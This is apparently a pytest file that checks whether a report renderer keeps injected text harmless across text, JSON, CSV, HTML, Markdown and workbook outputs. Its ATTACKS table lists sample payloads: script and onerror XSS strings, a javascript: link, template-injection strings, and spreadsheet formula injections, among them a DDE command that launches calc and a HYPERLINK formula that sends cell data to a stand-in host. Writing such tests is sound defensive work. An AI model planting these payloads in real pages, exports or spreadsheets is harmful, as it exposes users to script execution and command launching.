"""Texts that attack do no harm in any format: they are shown, and open, run and break nothing.

The same report is rendered with harmless words and with the attack in every place that a text from outside can
reach. Its structure must not differ, and the attack must be readable in it.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser
from zipfile import ZipFile

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from tests.made_up import MADE_UP, record, release
from tracker.model import (
    Basis,
    Change,
    Diff,
    Edit,
    Event,
    FieldChange,
    Finding,
    Format,
    Kind,
    Level,
    NotCompared,
    Problem,
    Rewording,
    Severity,
    Status,
    Successor,
    Wording,
)
from tracker.report import render
from tracker.report.view import ReportView, build_view, visible

HARMLESS = "word"
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "end of script": "</script><script>alert(1)//",
    "end of table": "</td></tr></table></details></body><h1>x</h1>",
    "attribute": "\"'><img src=x onerror=alert(1)>",
    "comment": "<!-- --> <![CDATA[ x ]]> <?php ?>",
    "entities": "&lt;b&gt; &amp; &#60;b&#62; &copy",
    "formula": '=HYPERLINK("http://a.example/?"&A1,"click")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "number": "0088",
    "bar": r"a | b \| c \\| d || e \ ",
    "code": "`code` ``` fence ``` ~~~ tilde",
    "emphasis": "**bold** __bold__ *it* _it_ ~~gone~~ ~x~ **",
    "link": "[a](javascript:alert(1)) ![i](http://a.example/b.png) <http://a.example> [x]: http://a.example",
    "autolink": "http://a.example www.a.example ftp://a.example me@a.example mailto:me@a.example",
    "mention": "@user @org/team #123 GH-1 org/repo#1 :smile: $x$ $$y$$",
    "heading": "# head",
    "list": "- [ ] item",
    "rule": "---",
    "quote": "> quote",
    "template": "{{ 7 * 7 }} {% raw %} {# x #} ${7*7}",
    "rich": "<r><t>x</t></y></r>",
    "escape of a workbook": "_x0041_ _x000D_",
    "marks": "{+came+} [-went-] [bold]x[/bold]",
    "long": "five words of a text " * 250,
    "long word": "x" * 5000,
    "other scripts": "עברית العربية 日本語 \U0001f600",
}
ODD = {
    "colour": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "C1 control": "\x9b31mred",
    "turned": "abc \u202e cba \u2066 x",
    "no width": "a\u200bb\ufeffc",
    "line ends": "one\r\ntwo\u2028three",
    "nothing": "a\x00b",
}
"""Characters that normalising drops from a release; a file's name and a policy's words may have them."""


def view_with(text: str) -> ReportView:
    """Return a view that has a text wherever one from outside can be."""
    rewording = Rewording(
        Wording.REWORDED, 0.5, (Edit("same ", "same "), Edit(text, f"new {text}"), Edit(" end", " end"))
    )
    retold = FieldChange("text", f"same {text} end", f"same new {text} end", rewording=rewording)
    short = FieldChange("short", None, text)
    priced = FieldChange("prices", ("11", text), ("11",), went=(text,))
    remarked = FieldChange("remark", text, None)
    ended = FieldChange("last_day", None, "2025-12-31")
    successors = (
        Successor("B0001", Basis.SUGGESTED, 0.5, 20.0, text),
        Successor("B0002", Basis.DECLARED, 1.0, None, text),
    )
    events = (
        Event("ended", Level.ACT, text, ("last_day",)),
        Event("retold", Level.REVIEW, text, ("text", "short"), waived=text),
        Event("repriced", Level.NOTE, text, ("prices", "remark")),
    )
    fields = (retold, short, ended, priced, remarked)
    new = record("A0001", text=str(retold.new), short=text, last_day="2025-12-31", prices=("11",))
    changes = (
        Change("A0001", Kind.PROCEDURE, Status.CHANGED, new, fields, False, events, successors),
        added("A1", text),
        added("B0001", text),
        Change(
            "C0001",
            Kind.PROCEDURE,
            Status.REMOVED,
            record("C0001", text=text),
            events=(Event("gone", Level.ACT, text),),
        ),
    )
    sides = [
        release(label, 3, source_name=text, mark=text, remark=text, withdrawn=text, counts={"codes": 3})
        for label in ("2025", "2026")
    ]
    return build_view(
        MADE_UP,
        Diff(sides[0], sides[1], changes, NotCompared(1, 2, {"short": 3})),
        remarks=[text],
        problems={"2025@1": [Problem(Severity.WARNING, text, text, "line 1", "A0001", "short", text)]},
        audit=[Finding("silent", "A0001", text, text)],
    )


def added(code: str, text: str) -> Change:
    kind = Kind.MODIFIER if len(code) == 2 else Kind.PROCEDURE
    came = Event("came", Level.REVIEW, text)
    return Change(code, kind, Status.ADDED, record(code, text=text, short="s"), events=(came,))


def cells(data: bytes) -> Iterator[tuple[str, str, str]]:
    """Yield (type, sheet, text) of a workbook's cells, and look for formulas and links in its parts."""
    with ZipFile(io.BytesIO(data)) as parts:
        assert not any(re.search(b"<hyperlink|<f>|externalLink", parts.read(name)) for name in parts.namelist())
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield cell.data_type, sheet.title, str(cell.value)


class Page(HTMLParser):
    """What a browser would make of a page: its elements and attributes, and its visible text."""

    def __init__(self, data: bytes) -> None:
        super().__init__()
        self.elements: list[tuple[str, ...]] = []
        self.text = ""
        self.hidden = 0
        self.feed(data.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, *(name for name, _ in attrs)))
        self.hidden += tag in {"script", "style"}
        for name, value in attrs:
            assert not name.startswith("on")
            if name in {"href", "src"}:
                assert (value or "").startswith(("#", "data:")), (name, value)

    def handle_endtag(self, tag: str) -> None:
        self.elements.append(("/", tag))
        self.hidden -= tag in {"script", "style"}

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", str(len(data))))

    def handle_data(self, data: str) -> None:
        if not self.hidden:
            self.text += data


def shown_in_markdown(data: bytes) -> tuple[list[str], str]:
    """Return the structure of a Markdown page, and its text."""
    structure, text = [], ""
    as_signs = {"<strong>": "strong_open", "</strong>": "strong_close", "<del>": "s_open", "</del>": "s_close"}
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(data.decode()):
        if token.type != "inline":
            structure.append(f"{token.type} {token.content.strip() if token.type == 'html_block' else ''}")
        for child in token.children or ():
            if child.type in {"text", "text_special", "softbreak", "code_inline"}:
                text += child.content
            elif child.type == "html_inline" and child.content == "<br>":
                text += "\n"
            else:
                structure.append(as_signs.get(child.content, child.type))
        text += "\n"
    return structure, text


def structure_and_text(form: Format, data: bytes) -> tuple[object, str]:
    """Return what must not depend on the texts, and the text that a reader sees."""
    if form is Format.TEXT:
        text = data.decode()
        odd = {one for one in text if unicodedata.category(one) in {"Cc", "Cs"} or one in "\u2028\u2029\u202e\u2066"}
        return odd - {"\n"}, text
    if form is Format.JSON:
        whole = json.loads(data)
        return shape_of(whole), json.dumps(whole, ensure_ascii=False)
    if form is Format.CSV:
        rows = list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        return [len(row) for row in rows], "\n".join(cell for row in rows for cell in row)
    if form is Format.HTML:
        page = Page(data)
        return page.elements, page.text
    if form is Format.MARKDOWN:
        return shown_in_markdown(data)
    found = list(cells(data))
    return [(kind, sheet) for kind, sheet, _ in found], "\n".join(text for _, _, text in found)


def shape_of(value: object) -> object:
    if isinstance(value, dict):
        return {name: shape_of(one) for name, one in value.items()}
    return [shape_of(one) for one in value] if isinstance(value, list) else type(value)


def squeezed(text: str) -> str:
    return re.sub(r"\s+|\u200b", "", text)


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("form", Format)
def test_a_text_changes_nothing_but_the_text(form: Format, text: str) -> None:
    harmless, _ = structure_and_text(form, render(view_with(HARMLESS), form))
    structure, shown = structure_and_text(form, render(view_with(text), form))
    assert structure == harmless
    wanted = json.dumps(text, ensure_ascii=False)[1:-1] if form is Format.JSON else text
    if form is Format.TEXT:
        assert wanted.strip() in shown
    else:
        assert squeezed(visible(wanted)) in squeezed(shown)


@pytest.mark.parametrize("text", ODD.values(), ids=ODD)
@pytest.mark.parametrize("form", [form for form in Format if form is not Format.CSV])
def test_characters_that_show_nothing_are_shown_and_do_nothing(form: Format, text: str) -> None:
    harmless, _ = structure_and_text(form, render(view_with(HARMLESS), form))
    data = render(view_with(text), form)
    structure, shown = structure_and_text(form, data)
    assert structure == harmless
    if form is not Format.JSON:
        assert squeezed(visible(text)) in squeezed(shown)
        assert not re.search("[\x00-\x08\x0e-\x1f\x7f-\x9f\u2028\u202e\u2066\ufeff]", shown)
